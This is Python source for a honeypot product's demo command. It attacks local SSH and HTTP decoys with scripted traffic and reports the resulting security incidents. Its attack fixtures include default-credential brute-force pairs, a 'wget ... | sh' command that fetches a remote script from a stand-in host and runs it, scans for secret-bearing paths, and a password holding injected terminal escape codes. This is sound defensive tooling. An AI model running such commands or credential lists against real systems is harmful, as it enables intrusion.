"""`lurewire demo`: attacks on decoys become enriched incidents, on this machine, while you watch."""

from __future__ import annotations

import asyncio
import shutil
import signal
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING

from rich import box
from rich.table import Table
from rich.text import Text

from lurewire.core.clock import SystemClock
from lurewire.core.log import inert
from lurewire.demo.api import Api, Target
from lurewire.demo.attackers import PROXY, Decoys, http_request, ssh_logins
from lurewire.demo.story import Step, Trail, Watcher
from lurewire.ipintel import DataFolder, Lookup, addresses, pick_address
from lurewire.supervisor import Supervisor, ask_control

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from rich.console import Console

    from lurewire.settings import Settings
    from lurewire.supervisor import Running

STORY_SECONDS = 45.0
_STYLES = {"touch": "yellow", "escalation": "bold red", "incident": "bold", "comment": "cyan", "run": "green"}
_BRUTE_FORCE = [("root", "123456"), ("root", "toor"), ("admin", "admin"), ("root", "P@ssw0rd"), ("ubuntu", "ubuntu")]
_COMMANDS = ["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.7/x.sh -O- | sh"]
_SCAN = ["/.env", "/wp-login.php", "/.git/config", "/actuator/health"]


async def demo(folder: Path | None, settings: Settings, *, keep: bool, console: Console) -> bool:
    """Run it all; True where the whole chain happened for every source.

    State goes to `folder`, or to a temporary one that is removed unless `keep`.
    """
    where = folder or Path(tempfile.mkdtemp(prefix="lurewire-demo-"))
    try:
        supervisor = Supervisor(where, _demo_settings(settings), logs=True)
        console.print(f"Lurewire demo. State and logs: {where}", highlight=False)
        now = await supervisor.start()
        try:
            happened = await _show(where, now, settings, console, keep=keep)
            if keep:
                console.print("\nStill running; Ctrl-C stops it.", highlight=False)
                await _until_interrupted()
        finally:
            await supervisor.stop()
    finally:
        if folder is None and not keep:
            shutil.rmtree(where, ignore_errors=True)
    return happened


def _demo_settings(settings: Settings) -> Settings:
    return settings.with_values(
        {
            "server.port": 0,
            "sensor.ssh_port": 0,
            "sensor.http_port": 0,
            # The attackers below speak from public addresses by PROXY protocol.
            "sensor.proxy_from": [PROXY],
        }
    )


async def target_for(now: Running, name: str) -> Target:
    """A credential that may read everything of a running Lurewire."""
    body = {"name": name, "roles": ["Reader", "Log Analytics Reader"], "scope": None}
    made = await asyncio.to_thread(ask_control, now.control, "/apps", body)
    facts = now.facts
    return Target(
        url=now.url,
        ca=Path(facts["ca"]),
        tenant_id=facts["tenant_id"],
        subscription_id=facts["subscription_id"],
        resource_group=facts["resource_group"],
        workspace=facts["workspace"],
        workspace_id=facts["workspace_id"],
        client_id=made["client_id"],
        client_secret=made["client_secret"],
    )


def lookup_data(settings: Settings) -> Lookup:
    """The installed IP data."""
    folder = settings["ipintel.data"]
    return Lookup(DataFolder(Path(folder)) if folder else None)


async def _show(folder: Path, now: Running, settings: Settings, console: Console, *, keep: bool) -> bool:
    assert now.ssh_port is not None
    assert now.http_port is not None
    decoys = Decoys("127.0.0.1", now.ssh_port, now.http_port)
    data = lookup_data(settings)
    try:
        tor, scanner = addresses(data, "tor", count=2)
        benign = pick_address(data, "benign")
    finally:
        data.close()
    plan: list[tuple[str, bool, str, Callable[[], Awaitable[int]]]] = [
        (tor, True, "SSH brute force, then commands", lambda: ssh_logins(decoys, tor, _BRUTE_FORCE, _COMMANDS)),
        (scanner, True, "HTTP logins and a scan", lambda: _web_attack(decoys, scanner)),
        (benign, False, "one look at the HTTP login page", lambda: http_request(decoys, benign, "GET", "/login")),
    ]
    console.print(f"API {now.url}   SSH decoy port {now.ssh_port}   HTTP decoy port {now.http_port}\n", highlight=False)

    def tell(step: Step) -> None:
        line = Text.assemble(
            (f"+{max(step.seconds, 0):6.3f} s  ", "dim"),
            f"{step.source:<16} ",
            (f"{step.kind:<11}", _STYLES.get(step.kind, "")),
            inert(step.text),
        )
        console.print(line, soft_wrap=True)

    async with Api(await target_for(now, "demo")) as api:
        clock = SystemClock()
        trails: list[Trail] = []
        attacks: list[asyncio.Task[int]] = []
        for source, escalates, what, attack in plan:
            trails.append(Trail(source, clock.now(), escalates))
            tell(Step(source, "touch", 0.0, what))
            attacks.append(asyncio.ensure_future(attack()))
        watcher = Watcher(api, f"{api.group}/providers/Microsoft.Logic/workflows/{now.facts['playbook']}", tell)
        happened = await watcher.follow(trails, STORY_SECONDS)
        await asyncio.gather(*attacks)
        counts = await api.query("TrapEye_Interactions_CL | summarize interactions = count() by source_ip")
    interactions = {row["source_ip"]: row["interactions"] for row in counts}
    _close(folder, now, trails, interactions, console, keep=keep)
    if not happened:
        for trail in trails:
            if not trail.complete:
                got = ", ".join(sorted(trail.seen)) or "nothing"
                console.print(Text(f"The chain of {trail.source} is not whole; seen: {got}", "bold red"))
    return happened


async def _web_attack(decoys: Decoys, source: str) -> int:
    for password in ("admin", "letmein", "[bold]\x1b[31mhello"):
        await http_request(decoys, source, "POST", "/login", {"username": "admin", "password": password})
    for path in _SCAN:
        await http_request(decoys, source, "GET", path)
    return len(_SCAN)


def _close(
    folder: Path, now: Running, trails: list[Trail], interactions: dict[str, int], console: Console, *, keep: bool
) -> None:
    table = Table(box=box.SIMPLE_HEAD, title="What became of each touch", title_justify="left")
    for heading in ("Source", "Touches", "No.", "Severity", "Status", "Score", "Country"):
        table.add_column(heading, overflow="fold", no_wrap=heading in ("Source", "Severity", "Status"))
    for trail in trails:
        properties = trail.incident.get("properties", {})
        score = trail.enrichment.get("threat_score_d")
        cells = (
            trail.source,
            interactions.get(trail.source, 0),
            properties.get("incidentNumber", ""),
            trail.severity,
            properties.get("status", ""),
            "" if score is None else f"{score:g}",
            trail.enrichment.get("country_s", ""),
        )
        table.add_row(*(Text(inert(str(cell))) for cell in cells))
    console.print()
    console.print(table)
    option = f"--folder {folder}"
    lines = (
        "Look further:" if keep else "Look further (`lurewire demo --keep` leaves it running; this one ends here):",
        f"  lurewire query {option} 'TrapEye_Interactions_CL | summarize count() by source_ip, interaction_type'",
        f"  lurewire query {option} 'IPInsights_CL | project ip_s, threat_score_d, country_s, isp_s'",
        f"  lurewire query {option} 'SecurityIncident | project TimeGenerated, Title, Severity, Status'",
        f'  eval "$(lurewire env {option})"        and any Azure SDK, at {now.url}',
        "Attack it by hand:",
        f"  ssh -p {now.ssh_port} root@127.0.0.1",
        f"  curl -d 'username=admin&password=admin' http://127.0.0.1:{now.http_port}/login",
    )
    for line in lines:
        console.print(line, highlight=False, markup=False, soft_wrap=True)


async def _until_interrupted() -> None:
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for number in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(number, stop.set)
    await stop.wait()
